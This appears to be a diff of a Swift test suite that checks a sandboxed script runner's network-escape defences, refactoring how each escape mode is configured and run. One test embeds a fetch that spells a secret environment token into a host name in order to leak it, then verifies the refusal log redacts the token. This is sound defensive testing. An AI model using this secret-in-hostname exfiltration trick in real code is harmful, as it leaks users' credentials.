@@ -24,9 +24,9 @@ struct NetworkEscapeTests {
 
     func run(_ mode: EscapeMode, hosts: [String], _ body: String) async throws -> (RunResult, TestNetwork) {
         let network = try await TestNetwork.shared()
-        let configuration = try Fixture.configuration(policies: network.policies) { $0.unsafeOpenDenoPermissions = mode == .layersOnly }
+        let configuration = try Fixture.configuration(policies: network.policies) { mode.configure(&$0) }
         let header = "// @skill net\n" + hosts.map { "// @network \($0)\n" }.joined()
-        let result = try await Fixture.run(header + Self.attempts(body), runner: try await SkillRunner(configuration: configuration))
+        let result = try await mode.run(header + Self.attempts(body), runner: try await SkillRunner(configuration: configuration))
         #expect(result.outcome == .ok, "\(result.stderr)")
         return (result, network)
     }
@@ -152,10 +152,10 @@ struct NetworkEscapeTests {
     @Test("A secret spelt into a host name does not reach the result: the transcript is redacted like stdout", arguments: EscapeMode.allCases)
     func secretInHostName(mode: EscapeMode) async throws {
         let network = try await TestNetwork.shared()
-        let configuration = try Fixture.configuration(policies: network.policies) { $0.unsafeOpenDenoPermissions = mode == .layersOnly }
+        let configuration = try Fixture.configuration(policies: network.policies) { mode.configure(&$0) }
         let attempt = #"["leak", () => fetch(`http://${Deno.env.get("TOKEN")}.api.test:8080/hello`).then((r) => r.status)]"#
         let source = "// @skill leak\n// @network *.api.test:8080\n// @secrets TOKEN\n" + Self.attempts(attempt)
-        let result = try await Fixture.run(source, secrets: ["TOKEN": "LeakMe1234"], runner: try await SkillRunner(configuration: configuration))
+        let result = try await mode.run(source, secrets: ["TOKEN": "LeakMe1234"], runner: try await SkillRunner(configuration: configuration))
         #expect(line(result, "leak") == "ok 502")  // declared by the wildcard, but the name does not resolve
         let refusal = try #require(result.network?.refused.first)
         #expect(refusal.host == "[REDACTED:TOKEN].api.test" && refusal.reason.contains("[REDACTED:TOKEN].api.test"), "\(refusal)")
